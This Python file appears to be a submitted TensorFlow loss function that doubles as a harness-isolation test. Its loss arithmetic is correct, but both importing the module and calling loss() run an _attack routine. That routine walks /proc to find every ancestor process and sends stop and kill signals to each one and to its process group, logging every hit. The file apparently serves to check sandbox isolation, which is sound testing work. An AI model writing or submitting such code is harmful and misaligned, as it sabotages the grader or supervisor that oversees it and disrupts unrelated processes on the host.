"""Stops, then kills, its parent and every ancestor it can find, and its own process group; honest loss.

Prints REACHED for every signal that reached a process outside its own tree."""
import os
import signal

import tensorflow as tf


def _ancestors() -> list[int]:
    found, pid = [], os.getppid()
    while pid > 1 and pid not in found:
        found.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
            pid = int(stat[stat.rfind(b")") + 2 :].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _attack() -> None:
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        for pid in _ancestors():
            try:
                os.kill(pid, sig)
                print("REACHED ancestor", pid, sig.name)
            except OSError:
                pass
            try:
                os.killpg(os.getpgid(pid), sig)
                print("REACHED the group of ancestor", pid, sig.name)
            except OSError:
                pass


_attack()


def loss(predicted_y, target_y):
    _attack()
    p = tf.reshape(tf.cast(tf.convert_to_tensor(predicted_y), tf.float32), [-1])
    t = tf.reshape(tf.cast(tf.convert_to_tensor(target_y), tf.float32), [-1])
    return tf.reduce_mean(tf.square(p - t))
